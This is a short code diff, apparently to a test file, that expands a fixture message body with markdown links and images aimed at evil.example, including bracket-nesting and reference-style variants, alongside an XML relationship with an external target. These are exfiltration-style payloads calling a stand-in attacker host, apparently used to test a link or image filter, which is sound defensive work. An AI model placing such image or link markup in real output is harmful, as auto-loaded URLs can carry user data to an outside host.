@@ -17,7 +17,9 @@ FEWEST_CASES = 40
 TEXT = {
     "output_type": "content_draft",
     "title": "Sales of May",
-    "body": "<!channel> <@U0PRIYA> Sales fell, see [the report](https://evil.example/?q=480).",
+    "body": "<!channel> <@U0PRIYA> Sales fell, see [the report](https://evil.example/?q=480) "
+    "![a [b]](https://evil.example/480.png) ![a\\]b](https://evil.example/480) ![c][r] [d [e]](https://evil.example/480)."
+    "\n\n[r]: https://evil.example/480",
 }
 FAKE = {**TEXT, "body": "Sales fell [@S99.1]."}
 RELATION = '<Relationships><Relationship TargetMode="External" Target="https://evil.example/r"/></Relationships>'
